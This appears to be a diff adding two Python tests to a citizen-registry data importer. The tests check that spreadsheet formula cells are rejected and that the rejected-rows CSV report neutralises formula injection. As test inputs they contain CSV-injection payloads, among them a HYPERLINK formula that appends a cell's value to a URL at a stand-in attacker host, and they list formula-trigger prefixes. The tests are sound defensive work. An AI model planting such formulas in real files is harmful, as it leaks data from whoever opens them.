@@ -269,6 +269,55 @@ def test_an_xlsx_file(fresh_database, tmp_path):
     assert result.exit_code != 0 and "缺少主键列" in result.output
 
 
+def test_a_formula_cell_rejects_its_row_naming_the_cell(fresh_database, tmp_path):
+    """A formula's value is not what the department entered (and without a cached result it read
+    as an empty cell, silently): the row is rejected with the cell and the reason."""
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(["公民身份号码", "姓名", "出生日期", "居住状态"])
+    rows = [person_row(100 + i) for i in range(3)]
+    for row in rows:
+        sheet.append([row[0], row[1], date.fromisoformat(row[3]), row[6]])
+    sheet["B3"] = '=HYPERLINK("https://evil.example/","点我")'  # the second person's name
+    sheet["D4"] = '=IF(1,"户籍","居住证")'  # the third person's residence status
+    workbook.save(tmp_path / "formulas.xlsx")
+    assert _import(fresh_database, tmp_path / "formulas.xlsx").exit_code == 0
+    job = _job(fresh_database)
+    assert (job.rows_accepted, job.rows_rejected) == (1, 2)
+    with fresh_database.sessionmaker()() as db:
+        rejections = {r.line: r for r in db.scalars(select(ImportRejection).where(ImportRejection.job_id == job.id))}
+        table = TABLES["persons"]
+        imported = set(db.scalars(select(table.c.id_number).where(table.c.import_job == job.id)))
+    assert set(rejections) == {3, 4} and imported == {rows[0][0]}
+    assert "B3（姓名）" in rejections[3].reason and "公式" in rejections[3].reason
+    assert rejections[3].record_key == rows[1][0]
+    assert "D4（居住状态）" in rejections[4].reason
+
+
+def test_the_rejected_rows_report_carries_no_formula(fresh_database, tmp_path):
+    """Whatever a rejected row held comes back as text: a spreadsheet opening the report runs nothing."""
+    evil = '=HYPERLINK("https://evil.example/?x="&A1,"点我")'
+    path = write_csv(tmp_path / "evil.csv", [person_row(0), [evil, "+坏行", "", "", "", "", ""],
+                                             ["@SUM(1)", "-坏行", "", "", "", "", ""]])
+    assert _import(fresh_database, path, "--rejected", str(tmp_path / "report.csv")).exit_code == 0
+    job = _job(fresh_database)
+    assert job.rows_rejected == 2
+    from tongban.registry import importer
+
+    with fresh_database.sessionmaker()() as db:
+        report = "".join(importer.rejected_csv(db, job.id)).lstrip("\ufeff")
+    rows = list(csv.reader(report.splitlines()))
+    assert rows[0] == ["行号", "主键", "原因", "原始内容"] and len(rows) == 3
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert rows[1][1] == "'" + evil and rows[1][3].startswith("'" + evil)
+    assert rows[2][1] == "'@SUM(1)" and rows[1][0] == "3"  # line numbers stay numbers
+    written = list(csv.reader((tmp_path / "report.csv").read_text(encoding="utf-8-sig").splitlines()))
+    assert written == rows  # the command line writes the same report
+
+
 def test_uploads_over_the_limit_are_refused_before_reading(fresh_database):
     from fastapi.testclient import TestClient
 
